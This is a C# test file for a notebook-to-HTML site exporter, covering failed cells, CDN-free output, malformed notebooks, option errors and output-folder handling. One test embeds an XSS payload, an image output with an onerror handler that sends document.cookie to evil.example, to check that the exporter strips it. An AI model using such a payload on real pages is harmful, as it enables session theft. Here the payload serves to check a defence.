using Descent.Cli.Commands;

namespace Descent.Site.Tests;

/// <summary><c>descent export</c> end to end: the engine runs the source fixtures, the site is written, the exit code says how it went.</summary>
public class ExportCommandTests
{
    private static string Source(string name) => Path.Combine(TestPaths.Fixtures, "Source", name);

    private static async Task<(int Code, string Out, string Err)> Export(params string[] args)
    {
        var output = new StringWriter();
        var error = new StringWriter();
        var inputs = args.TakeWhile(a => a != "--out").ToList();
        var site = args.SkipWhile(a => a != "--out").Skip(1).FirstOrDefault() ?? "site";
        var code = await ExportCommand.RunAsync(inputs, site, alreadyExecuted: false, timeoutSeconds: 120, output, error);
        return (code, output.ToString(), error.ToString());
    }

    [Fact]
    public async Task AFailingLessonIsReportedWithItsCellAndTheOthersStillExport()
    {
        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
        var (code, stdout, stderr) = await Export(Source("04-engine-failure.ipynb"), Source("03-engine-chart.ipynb"), "--out", site);

        Assert.Equal(1, code);
        Assert.Contains("04-engine-failure.ipynb failed at cell 4 (code cell 2): System.InvalidOperationException: the learning rate is too large: 5", stderr);
        Assert.Contains("running 03-engine-chart.ipynb ... ok", stdout);
        Assert.True(File.Exists(Path.Combine(site, "03-engine-chart.html")));
        var failed = File.ReadAllText(Path.Combine(site, "04-engine-failure.html"));
        Assert.Contains("<section class=\"cell cell-code cell-failed\" id=\"cell-4\">", failed);
        Assert.Contains("the learning rate is too large: 5", failed[failed.IndexOf("id=\"cell-4\"", StringComparison.Ordinal)..]);
        Assert.Contains("<section class=\"cell cell-code cell-not-run\" id=\"cell-5\">", failed);
        // The cell before the failure kept its output.
        Assert.Contains("<pre class=\"descent-plain\">5</pre>", failed);
    }

    [Fact]
    public async Task ExportingExecutedCopiesReportsTheErrorTheyRecordAndNamesNoCdn()
    {
        // Copies executed the way `descent run --allow-errors` writes them: chart fallbacks that load plotly.js from a CDN.
        var executed = TestPaths.NewTempFolder();
        foreach (var name in new[] { "03-engine-chart.ipynb", "04-engine-failure.ipynb" })
        {
            var run = await Descent.Notebooks.Running.NotebookRunner.RunFileAsync(Source(name), new() { AllowErrors = true });
            run.Notebook.Save(Path.Combine(executed, name));
        }
        Assert.Contains("cdn.plot.ly", File.ReadAllText(Path.Combine(executed, "03-engine-chart.ipynb")));

        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([executed], site, alreadyExecuted: true, timeoutSeconds: 120, output, error);

        Assert.Equal(1, code);
        Assert.Contains("04-engine-failure.ipynb failed at cell 4 (code cell 2): System.InvalidOperationException: the learning rate is too large: 5", error.ToString());
        var failed = File.ReadAllText(Path.Combine(site, "04-engine-failure.html"));
        Assert.Contains("This lesson did not run to the end", failed);
        Assert.Contains("<section class=\"cell cell-code cell-failed\" id=\"cell-4\">", failed);
        foreach (var file in Directory.GetFiles(site, "*.*").Where(f => f.EndsWith(".html") || f.EndsWith(".ipynb")))
            Assert.DoesNotContain("https://", File.ReadAllText(file));
    }

    [Fact]
    public async Task AnExecutedNotebooksImageOutputCannotInjectHtmlIntoItsPage()
    {
        // The case found in review: an image/png output whose data closes the src attribute and adds a handler.
        var folder = TestPaths.NewTempFolder();
        var notebook = """
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "descent", "display_name": "C#", "language": "C#"}},
             "cells": [{"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {}, "source": "Show()",
               "outputs": [{"output_type": "display_data", "metadata": {},
                            "data": {"image/png": "x\" onerror=\"location='https://evil.example/'+document.cookie"}}]}]}
            """;
        File.WriteAllText(Path.Combine(folder, "01-images.ipynb"), notebook);
        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([folder], site, alreadyExecuted: true, timeoutSeconds: 120, output, error);

        Assert.True(code == 0, output + "\n" + error);
        var page = File.ReadAllText(Path.Combine(site, "01-images.html"));
        Assert.DoesNotContain("onerror", page);
        Assert.DoesNotContain("evil.example", page);
        Assert.Contains("(an image/png output whose data is not a valid PNG image)", page);
        Assert.Contains("an image/png output is not base64-encoded image/png data; it is left out", output + error.ToString());
    }

    [Fact]
    public async Task ExportingAnUnexecutedNotebookAsExecutedSaysHowToRunItFirst()
    {
        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([Source("03-engine-chart.ipynb")], site, alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.Equal(1, code);
        Assert.Contains("has not been executed", error.ToString());
        Assert.Contains("run it first with `descent run`, or export without --executed", error.ToString());
    }

    [Fact]
    public async Task ACleanExportExitsZeroAndTheExecutedNotebookNamesNoCdn()
    {
        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
        var (code, stdout, _) = await Export(Source("03-engine-chart.ipynb"), "--out", site);
        Assert.Equal(0, code);
        Assert.Contains("03-engine-chart.html  ok", stdout);
        var notebook = File.ReadAllText(Path.Combine(site, "03-engine-chart.ipynb"));
        Assert.Contains("application/vnd.plotly.v1+json", notebook);
        Assert.DoesNotContain("https://", notebook);
    }

    [Fact]
    public async Task BadFilesAreEachLeftOutWithTheirReasonAndTheOtherLessonsArePublished()
    {
        var folder = TestPaths.NewTempFolder();
        var text = File.ReadAllText(Source("03-engine-chart.ipynb"));
        File.WriteAllText(Path.Combine(folder, "01-chart.ipynb"), text);
        File.WriteAllText(Path.Combine(folder, "02-float.ipynb"), text.Replace("\"nbformat\": 4", "\"nbformat\": 4.0"));
        File.WriteAllText(Path.Combine(folder, "03-string.ipynb"), text.Replace("\"nbformat\": 4", "\"nbformat\": \"4\""));
        File.WriteAllBytes(Path.Combine(folder, "04-latin1.ipynb"), System.Text.Encoding.Latin1.GetBytes(text.Replace("\"nbformat\": 4", "\"nbformat\": 4, \"x\": \"é\"")));
        File.CreateSymbolicLink(Path.Combine(folder, "05-gone.ipynb"), Path.Combine(folder, "nowhere"));
        var site = Path.Combine(TestPaths.NewTempFolder(), "site");

        var (code, stdout, stderr) = await Export(folder, "--out", site);

        Assert.Equal(1, code);
        Assert.DoesNotContain("   at ", stderr);
        Assert.Contains("02-float.ipynb is left out of the site: ", stderr);
        Assert.Contains("'nbformat' is 4.0, but it must be a whole number", stderr);
        Assert.Contains("'nbformat' is \"4\", but it must be the number 4", stderr);
        Assert.Contains("04-latin1.ipynb is left out of the site: ", stderr);
        Assert.Contains("not UTF-8 (byte 0xE9", stderr);
        Assert.Contains("05-gone.ipynb is left out of the site: it cannot be read", stderr);
        Assert.Contains("running 01-chart.ipynb ... ok", stdout);
        Assert.True(File.Exists(Path.Combine(site, "01-chart.html")));
    }

    [Fact]
    public async Task OutputFoldersAreTakenAsTheyAreMeantTrailingSlashAndSymbolicLinkIncluded()
    {
        var parent = TestPaths.NewTempFolder();
        var lesson = TestPaths.FixtureLessons[0];
        // --out site/ (a trailing slash) is the folder site.
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([lesson], Path.Combine(parent, "site") + "/", alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.True(code is 0 or 1, error.ToString()); // the fixture lesson fails at a cell on purpose
        Assert.True(File.Exists(Path.Combine(parent, "site", "index.html")));
        // A symbolic link to a folder stays a link; the folder it points to gets the site.
        Directory.CreateDirectory(Path.Combine(parent, "real"));
        var link = Path.Combine(parent, "published");
        Directory.CreateSymbolicLink(link, Path.Combine(parent, "real"));
        code = await ExportCommand.RunAsync([lesson], link, alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.True(code is 0 or 1, error.ToString()); // the fixture lesson fails at a cell on purpose
        Assert.NotNull(new DirectoryInfo(link).LinkTarget);
        Assert.True(File.Exists(Path.Combine(parent, "real", "index.html")));
        // Staging folders a killed export left beside the site (their process is gone) are cleaned up by the next one.
        var leftover = Directory.CreateDirectory(Path.Combine(parent, ".site.tmp-999999999-0123abcd")).FullName;
        var legacy = Directory.CreateDirectory(Path.Combine(parent, ".site.tmp-89abcdef")).FullName;
        var someonesFolder = Directory.CreateDirectory(Path.Combine(parent, "site.old-backup")).FullName;
        code = await ExportCommand.RunAsync([lesson], Path.Combine(parent, "site"), alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.True(code is 0 or 1, error.ToString()); // the fixture lesson fails at a cell on purpose
        Assert.False(Directory.Exists(leftover));
        Assert.False(Directory.Exists(legacy));
        Assert.True(Directory.Exists(someonesFolder));
    }

    [Theory]
    [InlineData("", 120.0, "--out needs a folder name; it was empty")]
    [InlineData("site", double.NaN, "--timeout must be a number of seconds, 0 or more")]
    [InlineData("site", -3.0, "--timeout must be a number of seconds, 0 or more")]
    public async Task BadOptionsAreRefusedBeforeAnythingRuns(string outputName, double timeout, string expected)
    {
        var parent = TestPaths.NewTempFolder();
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([TestPaths.FixtureLessons[0]], outputName.Length == 0 ? "" : Path.Combine(parent, outputName),
            alreadyExecuted: false, timeoutSeconds: timeout, output, error);
        Assert.Equal(2, code);
        Assert.Contains(expected, error.ToString());
        Assert.DoesNotContain("running", output.ToString());
        Assert.Empty(Directory.GetFileSystemEntries(parent));
    }

    [Fact]
    public async Task AMissingNotebookIsBadInputAndWritesNothing()
    {
        var parent = TestPaths.NewTempFolder();
        var (code, _, stderr) = await Export(Path.Combine(parent, "nope.ipynb"), "--out", Path.Combine(parent, "site"));
        Assert.Equal(2, code);
        Assert.Contains("nope.ipynb' does not exist", stderr);
        Assert.Empty(Directory.GetFileSystemEntries(parent));
    }

    [Fact]
    public async Task AMalformedNotebookIsLeftOutAndNamedWithItsPosition()
    {
        var parent = TestPaths.NewTempFolder();
        var broken = Path.Combine(parent, "05-broken.ipynb");
        File.WriteAllText(broken, "{\"cells\": [\n  {\"cell_type\": \"markdown\", ");
        var site = Path.Combine(parent, "site");
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([TestPaths.FixtureLessons[0], broken], site, alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.Equal(1, code);
        Assert.Contains("05-broken.ipynb is left out of the site", error.ToString());
        Assert.Contains("05-broken.ipynb", error.ToString());
        Assert.True(File.Exists(Path.Combine(site, "01-fixture-lesson.html")));
        Assert.False(File.Exists(Path.Combine(site, "05-broken.html")));
    }

    [Fact]
    public async Task AnOutputFolderThatIsNotASiteIsRefused()
    {
        var parent = TestPaths.NewTempFolder();
        File.WriteAllText(Path.Combine(parent, "keep.txt"), "mine");
        var output = new StringWriter();
        var error = new StringWriter();
        var code = await ExportCommand.RunAsync([TestPaths.FixtureLessons[0]], parent, alreadyExecuted: true, timeoutSeconds: 120, output, error);
        Assert.Equal(2, code);
        Assert.Contains("was not written by descent export", error.ToString());
        Assert.Equal("mine", File.ReadAllText(Path.Combine(parent, "keep.txt")));
    }
}
